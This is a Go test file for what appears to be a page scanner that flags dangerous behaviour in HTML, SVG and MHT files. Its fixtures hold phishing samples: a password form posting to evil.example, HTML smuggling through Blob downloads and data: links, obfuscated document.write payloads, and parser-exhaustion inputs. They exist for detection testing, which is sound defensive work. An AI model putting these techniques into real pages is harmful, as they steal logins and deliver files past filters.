package web

import (
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"net/url"
	"strings"
	"testing"
	"unicode/utf16"

	"gatepost/internal/unpack"
)

func report(t testing.TB, name string, content []byte) unpack.Report {
	t.Helper()
	w := unpack.NewWalk(context.Background(), unpack.Limits{Entries: 100, Depth: 5, Octets: 100 << 20, Object: 100 << 20}, func([]byte) string { return "" }, Formats())
	if err := w.Item(unpack.Item{Name: name}, content); err != nil && !errors.Is(err, unpack.ErrLimit) {
		t.Fatal(err)
	}
	return w.Report()
}

// told is a report in one line: the signs of all objects, their links, and the names of what is in them.
func told(r unpack.Report) string {
	var out []string
	for i, o := range r.Objects {
		if i > 0 {
			out = append(out, "in it "+o.Name)
		}
		for _, s := range o.Signs {
			out = append(out, string(s.Kind)+" "+s.Text)
		}
		for _, l := range o.Links {
			out = append(out, l.Where+" "+l.URI)
		}
	}
	return strings.Join(out, "\n")
}

// TestPages: what a page does when somebody opens it is told.
func TestPages(t *testing.T) {
	zip := "PK\x03\x04" + strings.Repeat("some content of an archive \x00", 10)
	packed := base64.StdEncoding.EncodeToString([]byte(zip))
	login := `<form action="https://evil.example/post"><input type="password"></form>`
	for _, c := range []struct{ name, content, want string }{
		{"a.html", `<p>hello <a href="https://a.example/">x</a>`, "a https://a.example/"},
		{"a.html", login, "form asks for a password, sent to https://evil.example/post\nform https://evil.example/post"},
		{"a.html", `<form action="https://evil.example/post"><input name=x></form>`, "form is sent to https://evil.example/post\nform https://evil.example/post"},
		{"a.html", `<form><input name=x></form><html>`, ""},
		{"a.htm", `<script>document.title = 1</script>`, "script script: document.title = 1"},
		{"a.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="go()"><foreignObject/></svg>`, "script script: go()\nscript HTML in SVG (foreignObject)"},
		{"a.svg", `<?xml version="1.0"?><!-- a --><svg><path d="M0 0"/></svg>`, ""},
		{"noname", "  <!-- a --><!DOCTYPE html>\n<html><body onload=go()>", "script script: go()"},
		{"a.html", `<meta http-equiv=refresh content="0;url=https://r.example/">`, "launch goes on by itself to https://r.example/\nrefresh https://r.example/"},
		{"a.html", `<iframe src="https://f.example/"></iframe>`, "remote_content frame: https://f.example/\nresource https://f.example/"},
		{"a.txt", `see <a href="https://a.example">x</a> <script>x</script>`, "a https://a.example"},
		{"a.html", `<script>var d = atob("` + packed + `"); var b = new Blob([d]); a.href = URL.createObjectURL(b); a.download = "x.zip"; a.click()</script>`,
			"*\nsmuggling new Blob and createObjectURL\nin it (in a script)"},
		{"a.html", `<a download="x.zip" href="data:application/zip;base64,` + packed + `">x</a>`,
			"smuggling a link that is a file: data:application/zip;base64\na data:application/zip;base64," + packed + "\nin it data:application/zip;base64"},
		{"a.html", `<script>document.write(unescape("` + strings.ReplaceAll(url.QueryEscape(login), "+", "%20") + `"))</script>`,
			"*form asks for a password, sent to https://evil.example/post (in what a script writes)"},
		{"a.html", `<script>document.write(atob("` + base64.StdEncoding.EncodeToString([]byte(login)) + `"))</script>`, "*form https://evil.example/post"},
		{"a.html", `<script>document.write("\x3c\x61\x20href=\x27https://evil.example\x27\x3e")</script>`, "*a https://evil.example"},
		{"a.mht", "From: <Saved>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type=\"text/html\"\r\n\r\nhttps://m.example/\r\n",
			"unseen a page with its files in one (MHT)\ntext https://m.example/"},
		{"a.txt", "nothing at all, 1 < 2", ""},
	} {
		got := told(report(t, c.name, []byte(c.content)))
		if part, ok := strings.CutPrefix(c.want, "*"); ok && strings.Contains(got, part) {
			continue
		}
		if got != c.want {
			t.Errorf("%s %s:\n%s\nnot\n%s", c.name, c.content, got, c.want)
		}
	}
	wide := []byte("\xff\xfe")
	for _, u := range utf16.Encode([]rune(login)) {
		wide = append(wide, byte(u), byte(u>>8))
	}
	if got := told(report(t, "a.html", wide)); !strings.HasPrefix(got, "form asks for a password") {
		t.Errorf("UTF-16: %s", got)
	}
	inner := report(t, "a.html", []byte(`<a href="data:application/zip;base64,`+packed+`">x</a>`)).Objects[1]
	if want := int64(len(zip)); inner.Size != want {
		t.Errorf("%d octets came out, not %d", inner.Size, want)
	}
}

// TestLongData: a data: link is longer than a link that is kept, and comes out whole.
func TestLongData(t *testing.T) {
	content := bytes.Repeat([]byte("0123456789abcdef\x00\x01"), 5000)
	r := report(t, "a.html", []byte(`<a download href="data:application/octet-stream;base64,`+base64.StdEncoding.EncodeToString(content)+`">x</a>`))
	if len(r.Objects) != 2 || r.Objects[1].Size != int64(len(content)) {
		t.Errorf("%+v", r.Objects)
	}
}

// TestHostile: scripts that are made to cost a lot do not.
func TestHostile(t *testing.T) {
	for name, s := range map[string]string{
		"quotes":  "<script>" + strings.Repeat(`"<`, 200_000),
		"nested":  "<script>x='" + strings.Repeat("<script>y=\\'<a>", 50_000),
		"scripts": strings.Repeat("<script>'PGh0bWw+'</script>", 50_000),
		"data":    strings.Repeat("<a href=data:a/b,xxxxxxxxxxxxxxxxxxxxxxxx>", 50_000),
		"lots":    strings.Repeat("<", 1_000_000),
	} {
		if r := report(t, "a.html", []byte(s)); len(r.Objects) > 1+maxPacked {
			t.Errorf("%s: %d objects", name, len(r.Objects))
		}
	}
}

// FuzzPage: no page breaks the process.
func FuzzPage(f *testing.F) {
	f.Add([]byte(`<script>atob("PGh0bWw+PGEgaHJlZj1odHRwczovL2EuZXhhbXBsZT4=")</script>`))
	f.Add([]byte(`<a href="data:application/zip;base64,AAAA">x</a><script>"\x3c\u003c%3c%3c%3c%3c"</script>`))
	f.Add([]byte("\xff\xfe<\x00a\x00 \x00"))
	f.Fuzz(func(t *testing.T, b []byte) {
		if r := report(t, "a.html", b); len(r.Objects) > 100 {
			t.Errorf("%d objects", len(r.Objects))
		}
	})
}
